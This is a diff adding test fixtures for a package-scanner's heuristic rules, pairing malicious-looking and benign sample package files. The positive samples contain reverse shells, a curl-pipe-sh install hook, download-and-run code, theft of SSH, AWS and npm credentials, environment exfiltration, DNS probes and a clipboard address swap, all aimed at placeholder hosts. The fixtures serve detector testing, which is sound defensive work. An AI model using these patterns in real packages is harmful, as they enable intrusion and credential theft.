@@ -1,0 +1,315 @@
+"""Positive and benign samples for every heuristic rule (inert: hosts under example.invalid).
+
+``SAMPLES[rule_id]`` holds ``positive`` and ``benign`` packages, each a mapping
+of package-relative path to file content. The test module is parametrised over
+:data:`chainwarden.analyzers.heuristics.RULES`, so a rule missing here fails.
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+Files = dict[str, str | bytes]
+
+ELF_EXECUTABLE: Final = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00" + b"\x00" * 46
+ELF_SHARED: Final = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x03\x00" + b"\x00" * 46
+
+SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
+    "capability-install-hook": {
+        "positive": [
+            {
+                "setup.py": (
+                    "from setuptools import setup\n"
+                    "from setuptools.command.install import install\n"
+                    "class Hook(install):\n"
+                    "    def run(self):\n"
+                    "        install.run(self)\n"
+                    "setup(name='x', cmdclass={'install': Hook})\n"
+                )
+            },
+            {"package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node-gyp rebuild"}}'},
+            {"x-startup.pth": "import os; os.environ.setdefault('X_MODE', 'fast')\n"},
+        ],
+        "benign": [
+            {"setup.py": "from setuptools import setup, find_packages\nsetup(name='x', packages=find_packages())\n"},
+            {"package.json": '{"name": "x", "version": "1.0.0", "scripts": {"test": "node test.js"}}'},
+            {"x.pth": "./vendor\n"},
+        ],
+    },
+    "capability-network": {
+        "positive": [
+            {"x/client.py": "import requests\n\ndef fetch(u):\n    return requests.get(u, timeout=5).json()\n"},
+            {"index.js": "const https = require('https');\nmodule.exports = u => https.get(u, r => r.resume());\n"},
+        ],
+        "benign": [
+            {"x/doc.py": "# uses requests.get in the docs only\nNAME = 'requests'\n\ndef f():\n    return NAME\n"},
+            {"index.js": "const path = require('path');\nmodule.exports = p => path.join(p, 'x');\n"},
+        ],
+    },
+    "capability-subprocess": {
+        "positive": [
+            {
+                "x/git.py": "import subprocess\n\ndef head():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
+            },
+            {
+                "lib.js": "const cp = require('child_process');\nexports.v = () => cp.execFileSync('git', ['--version']);\n"
+            },
+        ],
+        "benign": [
+            {"x/util.py": "import shutil\n\ndef which(n):\n    return shutil.which(n)\n"},
+            {"lib.js": "exports.exec = (re, s) => re.exec(s);\n"},
+        ],
+    },
+    "capability-dynamic-exec": {
+        "positive": [
+            {"x/tmpl.py": "def render(code, ns):\n    exec(code, ns)\n    return ns\n"},
+            {"lib.js": "module.exports = expr => eval(expr);\n"},
+        ],
+        "benign": [
+            {"x/tmpl.py": "import re\n\nPATTERN = re.compile('a+')\n\ndef ok(s):\n    return PATTERN.match(s)\n"},
+            {"lib.js": "setTimeout(() => console.log('tick'), 10);\n"},
+        ],
+    },
+    "capability-native-binary": {
+        "positive": [{"x/bin/helper": ELF_EXECUTABLE, "x/__init__.py": ""}],
+        "benign": [{"x/_speedups.so": ELF_SHARED, "x/__init__.py": ""}],
+    },
+    "malicious-decode-exec": {
+        "positive": [
+            {"x/__init__.py": "import base64\nexec(base64.b64decode('cHJpbnQoImluZXJ0Iik='))\n"},
+            {
+                "x/loader.py": (
+                    "import zlib, base64 as b\n"
+                    "def load(blob):\n"
+                    "    code = zlib.decompress(b.b64decode(blob))\n"
+                    "    exec(code)\n"
+                )
+            },
+            {"x/rot.py": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n"},
+            {"index.js": "eval(Buffer.from('Y29uc29sZS5sb2coImluZXJ0Iik=', 'base64').toString());\n"},
+            {"index.js": "const f = new Function(atob('cmV0dXJuIDE='));\nf();\n"},
+        ],
+        "benign": [
+            {
+                "x/img.py": (
+                    "import base64\n\ndef save(data, path):\n"
+                    "    with open(path, 'wb') as fh:\n        fh.write(base64.b64decode(data))\n"
+                )
+            },
+            {"index.js": "const s = Buffer.from('aGk=', 'base64').toString();\nconsole.log(s);\n"},
+        ],
+    },
+    "malicious-download-exec": {
+        "positive": [
+            {
+                "x/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('https://p.example.invalid/s').read())\n"
+            },
+            {
+                "x/upd.py": (
+                    "import os, subprocess, urllib.request\n"
+                    "def update():\n"
+                    "    urllib.request.urlretrieve('https://p.example.invalid/a', '/tmp/a')\n"
+                    "    os.chmod('/tmp/a', 0o755)\n"
+                    "    subprocess.Popen(['/tmp/a'])\n"
+                )
+            },
+            {
+                "package.json": '{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://p.example.invalid/i.sh | sh"}}'
+            },
+        ],
+        "benign": [
+            {
+                "x/fetch.py": (
+                    "import requests\n\ndef get(u):\n    r = requests.get(u, timeout=5)\n    return r.json()\n"
+                )
+            },
+            {"package.json": '{"name":"x","version":"1.0.0","scripts":{"postinstall":"node-gyp rebuild"}}'},
+        ],
+    },
+    "malicious-reverse-shell": {
+        "positive": [
+            {
+                "x/rs.py": (
+                    "import os, socket, pty\n"
+                    "def go():\n"
+                    "    s = socket.socket()\n"
+                    "    s.connect(('198.51.100.7', 4444))\n"
+                    "    os.dup2(s.fileno(), 0)\n"
+                    "    pty.spawn('/bin/sh')\n"
+                )
+            },
+            {"x/sh.py": "import os\nos.system('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')\n"},
+            {
+                "index.js": (
+                    "const net = require('net'); const cp = require('child_process');\n"
+                    "const sh = cp.spawn('/bin/sh', []);\n"
+                    "const c = net.connect(4444, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n"
+                )
+            },
+        ],
+        "benign": [
+            {
+                "x/srv.py": (
+                    "import socket\n\ndef ping(host):\n    s = socket.create_connection((host, 80), 3)\n    s.close()\n"
+                )
+            },
+            {
+                "index.js": "const net = require('net');\nmodule.exports = p => net.createServer(s => s.end()).listen(p);\n"
+            },
+        ],
+    },
+    "malicious-credential-access": {
+        "positive": [
+            {
+                "x/steal.py": (
+                    "import os, requests\n"
+                    "def grab():\n"
+                    "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                    "    requests.post('https://c.example.invalid/k', data=key)\n"
+                )
+            },
+            {"x/aws.py": "import os\nCREDS = os.path.expanduser('~/.aws/credentials')\n"},
+            {
+                "index.js": (
+                    "const fs = require('fs'); const https = require('https');\n"
+                    "const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
+                    "https.request({host: 'c.example.invalid', method: 'POST'}).end(t);\n"
+                )
+            },
+        ],
+        "benign": [
+            {"x/cfg.py": "import os\nCONFIG = os.path.expanduser('~/.config/x/settings.toml')\n"},
+            {
+                "index.js": "const fs = require('fs');\nmodule.exports = () => fs.readFileSync('package.json', 'utf8');\n"
+            },
+        ],
+    },
+    "malicious-env-exfiltration": {
+        "positive": [
+            {
+                "x/__init__.py": (
+                    "import os, json, urllib.request\n"
+                    "body = json.dumps(dict(os.environ)).encode()\n"
+                    "urllib.request.urlopen('https://c.example.invalid/e', data=body)\n"
+                )
+            },
+            {
+                "index.js": (
+                    "const https = require('https');\n"
+                    "const d = JSON.stringify(process.env);\n"
+                    "const r = https.request({hostname: 'c.example.invalid', method: 'POST'});\n"
+                    "r.write(d); r.end();\n"
+                )
+            },
+        ],
+        "benign": [
+            {
+                "x/run.py": (
+                    "import os, subprocess\n\ndef run(cmd):\n"
+                    "    env = dict(os.environ, LC_ALL='C')\n"
+                    "    return subprocess.run(cmd, env=env, check=True)\n"
+                )
+            },
+            {"index.js": "const level = process.env.LOG_LEVEL || 'info';\nmodule.exports = level;\n"},
+        ],
+    },
+    "malicious-exfil-endpoint": {
+        "positive": [
+            {"x/hook.py": "HOOK = 'https://discord.example.invalid/api/webhooks/1234567/abcdef'\n"},
+            {"x/ip.py": "URL = 'http://203.0.113.50:8080/collect'\n"},
+            {"index.js": "const u = 'https://api.telegram.org/bot123456:AAFakeToken/sendMessage';\n"},
+        ],
+        "benign": [
+            {
+                "x/net.py": "LOCAL = 'http://127.0.0.1:8000/'\nLAN = 'http://192.168.1.10/'\nDOCS = 'https://docs.example.invalid/'\n"
+            },
+            {"index.js": "const u = 'https://registry.npmjs.org/';\n"},
+        ],
+    },
+    "malicious-obfuscation": {
+        "positive": [
+            {
+                "x/__init__.py": "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000')\n"
+            },
+            {"x/hide.py": "import os\ngetattr(os, 'sys' + 'tem')('id')\n"},
+            {
+                "index.js": "var "
+                + ", ".join(f"_0x{i:04x}a = {i}" for i in range(20))
+                + ";\nfunction _0x1f2e(_0x3a1b, _0x4c2d) { return _0x3a1b + _0x4c2d; }\n"
+            },
+            {"lib.js": "module.exports = 1;" + " " * 300 + "require('child_process').exec('id');\n"},
+        ],
+        "benign": [
+            {"x/plain.py": "import os\n\ndef name():\n    return getattr(os, 'name')\n"},
+            {"index.js": "const hex = 0x1f;\nmodule.exports = { hex };\n"},
+        ],
+    },
+    "malicious-dns-probe": {
+        "positive": [
+            {
+                "package.json": '{"name":"x","version":"1.0.0","scripts":{"preinstall":"nslookup $(whoami).$(hostname).p.example.invalid"}}'
+            },
+            {
+                "x/probe.py": (
+                    "import socket, getpass\n"
+                    "def probe():\n"
+                    "    user = getpass.getuser()\n"
+                    "    socket.gethostbyname(user + '.p.example.invalid')\n"
+                )
+            },
+            {
+                "index.js": (
+                    "const dns = require('dns'); const os = require('os');\n"
+                    "dns.lookup(os.hostname() + '.p.example.invalid', () => {});\n"
+                )
+            },
+        ],
+        "benign": [
+            {"x/net.py": "import socket\n\ndef resolve(h):\n    return socket.gethostbyname(h)\n"},
+            {"package.json": '{"name":"x","version":"1.0.0","scripts":{"test":"nslookup example.invalid"}}'},
+        ],
+    },
+    "malicious-clipboard-hijack": {
+        "positive": [
+            {
+                "x/clip.py": (
+                    "import re, pyperclip\n"
+                    "BTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$')\n"
+                    "def swap():\n"
+                    "    if BTC.match(pyperclip.paste()):\n"
+                    "        pyperclip.copy('bc1qinertinertinertinertinertinertinert00')\n"
+                )
+            },
+            {
+                "index.js": (
+                    "const re = /0x[a-fA-F0-9]{40}/;\n"
+                    "navigator.clipboard.readText().then(t => { if (re.test(t)) navigator.clipboard.writeText("
+                    "'0x0000000000000000000000000000000000000000'); });\n"
+                )
+            },
+        ],
+        "benign": [
+            {"x/copy.py": "import pyperclip\n\ndef share(text):\n    pyperclip.copy(text)\n"},
+            {"index.js": "module.exports = t => navigator.clipboard.writeText(t);\n"},
+        ],
+    },
+    "malicious-silent-process": {
+        "positive": [
+            {
+                "x/w.py": (
+                    "import subprocess\nsubprocess.Popen(['updater.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n"
+                )
+            },
+            {
+                "index.js": (
+                    "const cp = require('child_process');\n"
+                    "cp.spawn('node', ['bg.js'], {detached: true, stdio: 'ignore'}).unref();\n"
+                )
+            },
+        ],
+        "benign": [
+            {"x/w.py": "import subprocess\n\ndef run():\n    subprocess.run(['make'], check=True)\n"},
+            {"index.js": "const cp = require('child_process');\ncp.spawn('node', ['x.js'], {stdio: 'inherit'});\n"},
+        ],
+    },
+}
